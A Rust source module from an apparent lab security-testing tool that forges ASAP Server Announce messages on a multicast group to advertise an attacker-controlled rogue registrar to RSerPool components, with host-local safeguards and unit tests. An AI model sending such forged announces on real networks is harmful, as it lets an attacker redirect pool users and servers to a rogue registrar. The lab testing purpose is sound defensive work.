//! `announce` (RFC 5355 §2.12): forged ASAP Server Announces on the
//! announce multicast group (`--target`, RSPLIB's default
//! `239.0.0.50:3863`), advertising a registrar the attacker controls
//! (`--registrar`, default the lab's attackers' address). Components that
//! learn registrars from announces (RSPLIB's PEs and pool users do, by
//! default) may then use the rogue registrar; the project's pool user
//! uses configured registrars only. The announces are sent with multicast
//! TTL 0 and loopback on: they reach listeners on this host (the lab VM)
//! and never leave it.

use std::net::{IpAddr, Ipv4Addr, SocketAddr};

use anyhow::{bail, Context, Result};
use client_core::policy::Rng;
use client_core::wire::{consts, ServerId, TransportAddress};
use tokio::net::UdpSocket;

use super::{Act, Attack, Common, Ctx};
use crate::fields;
use crate::messages::{self, parse_pe_id};
use crate::net::parse_target;
use crate::output::Output;
use crate::stop::Stop;

#[derive(Clone, Debug, clap::Args)]
pub struct Args {
    /// The announce group, a multicast IP:PORT (RSPLIB: 239.0.0.50:3863).
    #[command(flatten)]
    pub common: Common,
    /// The registrar the announces advertise (ASAP endpoint, SCTP).
    #[arg(long, value_name = "IP:PORT", value_parser = parse_target, default_value = "10.9.0.1:3863")]
    pub registrar: SocketAddr,
    /// The advertised registrar's server id (default: from the seed,
    /// `0x66xxxxxx`, never one of the lab's).
    #[arg(long = "server-id", value_name = "ID", value_parser = parse_pe_id)]
    pub server_id: Option<u32>,
}

/// The forged announce (no I/O).
pub fn forged_announce(server_id: u32, registrar: SocketAddr) -> Vec<u8> {
    messages::server_announce(
        server_id,
        vec![TransportAddress::sctp(
            registrar.port(),
            consts::transport_use::DATA_PLUS_CONTROL,
            vec![registrar.ip()],
        )],
    )
}

/// Announces go to multicast groups only (host-local with TTL 0).
pub fn check_group(group: SocketAddr) -> Result<()> {
    if !group.ip().is_multicast() {
        bail!("{group}: announces go to a multicast group (e.g. 239.0.0.50:3863)");
    }
    Ok(())
}

struct Announce {
    sock: UdpSocket,
    groups: Vec<SocketAddr>,
    bytes: Vec<u8>,
    server_id: u32,
    registrar: SocketAddr,
}

impl Attack for Announce {
    async fn act(&mut self, seq: u64, _rng: &mut Rng, _out: &Output) -> Result<Act> {
        let group = self.groups[(seq % self.groups.len() as u64) as usize];
        self.sock
            .send_to(&self.bytes, group)
            .await
            .with_context(|| format!("sending to {group}"))?;
        Ok((
            "server-announce",
            fields! {
                "group" => group.to_string(),
                "server_id" => ServerId(self.server_id).to_string(),
                "registrar" => self.registrar.to_string(),
            },
        ))
    }
}

pub async fn run(a: Args, stop: Stop) -> Result<()> {
    let mut ctx = Ctx::new(&a.common, stop);
    let server_id = a
        .server_id
        .unwrap_or_else(|| super::rogue_enrp::RogueServer::draw_server_id(&mut ctx.rng));
    let groups = ctx.targets.clone();
    let Some(sock) = ctx
        .setup(async {
            for g in &groups {
                check_group(*g)?;
            }
            let sock = UdpSocket::bind(SocketAddr::new(IpAddr::V4(Ipv4Addr::UNSPECIFIED), 0))
                .await
                .context("UDP socket")?;
            // Host-local: never beyond the lab VM.
            sock.set_multicast_ttl_v4(0)?;
            sock.set_multicast_loop_v4(true)?;
            Ok(sock)
        })
        .await
    else {
        return Ok(());
    };
    let mut attack = Announce {
        sock,
        groups,
        bytes: forged_announce(server_id, a.registrar),
        server_id,
        registrar: a.registrar,
    };
    let f = super::run_paced(&mut attack, &mut ctx, false).await;
    super::done(
        &ctx,
        f,
        fields! {
            "server_id" => ServerId(server_id).to_string(),
            "registrar" => a.registrar.to_string(),
        },
    );
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use client_core::wire::{self, AsapMessage, Message, Protocol};

    #[test]
    fn the_announce_advertises_the_rogue_registrar_over_sctp() {
        let r: SocketAddr = "10.9.0.1:3863".parse().unwrap();
        let b = forged_announce(0x6600_0007, r);
        let Message::Asap(AsapMessage::ServerAnnounce(a)) =
            wire::decode(Protocol::Asap, &b).unwrap().message
        else {
            panic!("not a Server Announce");
        };
        assert_eq!(a.server_id, ServerId(0x6600_0007));
        assert_eq!(a.transports.len(), 1);
        assert_eq!(a.transports[0].port, 3863);
        assert_eq!(a.transports[0].addresses, vec![r.ip()]);
    }

    #[test]
    fn only_multicast_groups_are_targets() {
        assert!(check_group("239.0.0.50:3863".parse().unwrap()).is_ok());
        for t in ["10.1.0.1:3863", "255.255.255.255:3863", "8.8.8.8:53"] {
            let e = check_group(t.parse().unwrap()).unwrap_err().to_string();
            assert!(e.contains("multicast"), "{t}: {e}");
        }
    }
}
